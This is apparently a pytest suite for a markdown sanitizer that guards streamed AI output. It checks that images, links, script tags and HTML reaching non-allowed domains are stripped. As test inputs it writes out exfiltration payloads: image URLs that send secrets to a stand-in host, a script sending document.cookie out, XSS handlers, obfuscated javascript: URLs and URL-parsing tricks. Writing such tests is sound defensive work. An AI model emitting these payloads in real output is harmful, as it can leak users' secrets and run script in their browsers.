import itertools

import pytest

from modelway.guardrails.sanitize import StreamSanitizer, sanitize_markdown

ALLOWED = ["docs.example.com", "cdn.example.org"]


def clean(text: str) -> str:
    return sanitize_markdown(text, ALLOWED)[0]


def streamed(text: str, cuts: list[int], max_hold: int = 2048) -> str:
    sanitizer = StreamSanitizer(ALLOWED, max_hold=max_hold)
    bounds = [0, *cuts, len(text)]
    out = [sanitizer.feed(text[a:b]) for a, b in itertools.pairwise(bounds)]
    return "".join(out) + sanitizer.flush()


def test_an_image_to_an_unknown_domain_is_removed_and_reported() -> None:
    text = "Done. ![status](https://evil.example/log?q=API_KEY_123) Anything else?"
    assert sanitize_markdown(text, ALLOWED) == ("Done.  Anything else?", ["image:evil.example"])


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.example.com/a.png",
        "https://img.cdn.example.org/a.png",  # a subdomain of an allowed domain
        "HTTPS://DOCS.EXAMPLE.COM/a.png",
        "/static/a.png",  # relative: the client's own origin
        "a.png",
    ],
)
def test_images_on_allowed_domains_or_relative_stay(url: str) -> None:
    text = f'See ![diagram]({url} "Diagram") here.'
    assert sanitize_markdown(text, ALLOWED) == (text, [])


@pytest.mark.parametrize(
    ("url", "reported"),
    [
        ("https://docs.example.com.evil.example/x", "docs.example.com.evil.example"),
        ("https://notdocs.example.com/x", "notdocs.example.com"),
        ("//evil.example/x", "evil.example"),
        ("https:evil.example/x", "evil.example"),
        ("https:\\\\evil.example/x", "evil.example"),
        ("https://docs.example.com@evil.example/x", "evil.example"),
        ("https://evil.example#@docs.example.com", "evil.example"),
        ("https://evil.example:443/x", "evil.example"),
        ("https://%65vil.example/x", "evil.example"),
        ("<https://evil.example/x y>", "evil.example"),
        ("data:image/png;base64,iVBORw0KGgo=", "data"),
        ("javascript:alert(1)", "javascript"),
        ("java&#115;cript:alert(1)", "javascript"),
    ],
)
def test_disguised_image_urls_are_removed(url: str, reported: str) -> None:
    assert sanitize_markdown(f"a ![x]({url}) b", ALLOWED) == ("a  b", [f"image:{reported}"])


def test_an_image_with_brackets_in_its_alt_text_is_removed() -> None:
    assert clean("![a [b] c](https://evil.example/x)!") == "!"
    assert clean("![a\\](x)](https://evil.example/x)") == ""


def test_links_elsewhere_keep_their_text() -> None:
    text = "Read [the guide](https://evil.example/g?d=SECRET) or [ours](https://docs.example.com/)."
    assert sanitize_markdown(text, ALLOWED) == (
        "Read the guide or [ours](https://docs.example.com/).",
        ["link:evil.example"],
    )


def test_an_image_inside_an_allowed_link_is_still_checked() -> None:
    badge = "[![build](https://evil.example/b.svg)](https://docs.example.com/ci)"
    assert clean(badge) == "[](https://docs.example.com/ci)"


def test_autolinks_elsewhere_are_removed_bare_urls_stay() -> None:
    text = "<https://evil.example/a> <https://docs.example.com/b> https://evil.example/c"
    assert sanitize_markdown(text, ALLOWED) == (
        " <https://docs.example.com/b> https://evil.example/c",
        ["link:evil.example"],
    )


def test_reference_definitions_elsewhere_are_removed() -> None:
    text = "![chart][c] and [docs][d]\n\n[c]: https://evil.example/c.png\n[d]: https://docs.example.com/\n"
    cleaned, removed = sanitize_markdown(text, ALLOWED)
    assert cleaned == "![chart][c] and [docs][d]\n\n\n[d]: https://docs.example.com/\n"
    assert removed == ["ref:evil.example"]
    assert clean('   [c]:\n   <https://evil.example/c.png> "title"\nnext') == "   \nnext"
    footnote = "As shown[^1].\n\n[^1]: https://evil.example/paper"
    assert clean(footnote) == "As shown[^1].\n\n\\[^1]: https://evil.example/paper"


def test_a_stray_destination_is_removed() -> None:
    # deeper nesting than the patterns read: CommonMark still renders an image here
    assert clean("![[[a]]](https://evil.example/x)") == "![[[a]]]"


def test_script_and_style_elements_go_with_their_content() -> None:
    text = "Hi <script>fetch('https://evil.example/?'+document.cookie)</script>there"
    assert sanitize_markdown(text, ALLOWED) == ("Hi there", ["script"])
    assert clean("a <STYLE>body{background:url(//evil.example)}</style> b") == "a  b"
    assert clean("a <script src=x.js> never closed") == "a "


def test_frames_and_embedding_tags_are_removed() -> None:
    text = 'x<iframe src="https://evil.example/"></iframe><object data=a></object><embed src=a>y'
    assert sanitize_markdown(text, ALLOWED) == ("xy", ["iframe", "object", "embed"])
    assert clean('<meta http-equiv="refresh" content="0;url=https://evil.example">') == ""


def test_html_images_elsewhere_are_removed() -> None:
    assert sanitize_markdown('<img src="https://evil.example/p.gif" alt="">', ALLOWED) == (
        "",
        ["image:evil.example"],
    )
    assert clean("<IMG/SRC=//evil.example/p.gif>") == ""
    assert (
        clean('<img srcset="https://docs.example.com/a.png 1x, https://evil.example/b 2x">') == ""
    )
    assert (
        clean('<img src="https://docs.example.com/a.png">')
        == '<img src="https://docs.example.com/a.png">'
    )


def test_handlers_javascript_urls_and_fetching_styles_are_dropped() -> None:
    assert sanitize_markdown("<img src=x onerror=alert(1)>", ALLOWED) == (
        "<img src=x>",
        ["handler"],
    )
    assert sanitize_markdown('<a href="javascript:alert(1)">go</a>', ALLOWED) == (
        "<a>go</a>",
        ["link:javascript"],
    )
    assert clean('<a href=" jav&#x09;ascript:alert(1)">go</a>') == "<a>go</a>"
    assert clean('<a href="https://evil.example/">go</a>') == "<a>go</a>"
    assert clean('<div style="background:url(https://evil.example/x)">hi</div>') == "<div>hi</div>"
    assert clean('<svg onload="alert(1)"><circle r="4"/></svg>') == '<svg><circle r="4"/></svg>'


def test_a_tag_hidden_in_an_attribute_is_dropped() -> None:
    text = '<p title="</noscript><img src=x onerror=alert(1)>">'
    assert sanitize_markdown(text, ALLOWED) == ("<p>", ["attribute"])


def test_a_tag_that_markdown_reads_differently_is_checked_both_ways() -> None:
    # a browser reads one <img> tag; a markdown renderer reads "<img " and an autolink
    assert clean("<img <https://evil.example/q>") == "<img "
    assert clean("<img <https://evil.example/q>>") == "<img >"
    # a removal joins the pieces of a new tag: it is read again
    assert clean("<img <iframe>src=https://evil.example/x>") == ""


def test_ordinary_markdown_and_code_are_untouched() -> None:
    text = (
        "# Title\n\nSome *text* with `a[i] < b` and [1], x[0] = [1, 2].\n\n"
        "Use `Vec<Vec<u8>>`, `#include <stdio.h>`, `a -> b`; mail <ada@example.com>.\n"
        '<div class="note">Hi <b>there</b><br/></div>\n- [x] done\n- [ ] todo\n'
        "Cited[^1].\n\n[^1]: https://docs.example.com/paper\n\n"
        "```python\nif a<b and c>d:\n    print(f'{x!r}')\n```\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    assert sanitize_markdown(text, ALLOWED) == (text, [])


def test_a_tag_too_long_to_read_opens_nothing() -> None:
    text = "<img " + "a " * 1500 + "src=https://evil.example/x>"
    cleaned = clean(text)
    assert cleaned.startswith("&lt;img ")
    assert "<img" not in cleaned


CONSTRUCTS = [
    "Hi ![x](https://evil.example/?q=secret) there",
    'A ![ok](https://cdn.example.org/a.png "t") b',
    "see [docs](https://evil.example/x) and [ours](https://docs.example.com/y)",
    "![a [b] c](https://evil.example/x 'title')",
    "[![img](https://evil.example/i)](https://docs.example.com/l)",
    "<https://evil.example/a> and <https://docs.example.com/b>",
    "x <script>alert(1)</script> y",
    "x <script>alert(1) y",
    "a<iframe src=https://evil.example></iframe>b",
    '<img src="https://evil.example/x.png" alt="a > b">',
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[x](javascript&#58;alert(1))",
    'text\n  [r]: <https://evil.example/q> "t"\nnext',
    "![x][r]\n\n[r]: https://evil.example/q\n",
    "![[[a]]](https://evil.example/x)",
    'list [1, 2] and x[0] and ![ok](https://docs.example.com/a.png "t (x)") end!',
    "a ![b](https://evil.example/p(q)r) c",
    "if a<b and c>d: pass",
]


@pytest.mark.parametrize("text", CONSTRUCTS)
def test_streaming_split_anywhere_equals_the_whole(text: str) -> None:
    whole = clean(text)
    for cut in range(len(text) + 1):
        assert streamed(text, [cut]) == whole, cut


@pytest.mark.parametrize("text", CONSTRUCTS[:6])
def test_streaming_split_twice_or_char_by_char_equals_the_whole(text: str) -> None:
    whole = clean(text)
    for a in range(0, len(text) + 1, 3):
        for b in range(a, len(text) + 1, 2):
            assert streamed(text, [a, b]) == whole, (a, b)
    assert streamed(text, list(range(1, len(text)))) == whole


def test_streaming_holds_only_what_may_be_unfinished() -> None:
    sanitizer = StreamSanitizer(ALLOWED)
    assert sanitizer.feed("Hello, here is ") == "Hello, here is "
    assert sanitizer.feed("the chart ![sales](https://evil") == "the chart "
    assert sanitizer.feed(".example/c.png?d=SECRET) and") == " and"
    assert sanitizer.feed(" more") == " more"
    assert sanitizer.flush() == ""
    assert sanitizer.removed == ["image:evil.example"]


def test_streaming_a_long_unfinished_construct_is_made_inert() -> None:
    text = "a ![x](https://evil.example/" + "p" * 100 + ")"
    out = streamed(text, list(range(1, len(text))), max_hold=32)
    assert "![x](" not in out
    assert out.startswith("a !&#91;x")
    out = streamed("<img " + "a " * 40 + "src=https://evil.example/x>", [3, 50], max_hold=32)
    assert out.startswith("&lt;img ")


def test_streaming_catches_a_tag_formed_by_a_removal_across_chunks() -> None:
    # "<img <iframe>" loses its iframe and joins the next chunk into an <img src=...>
    text = "<img <iframe> src=https://evil.example/x>"
    assert clean(text) == ""
    assert streamed(text, [13]) == ""
    assert streamed(text, [13, 20]) == ""
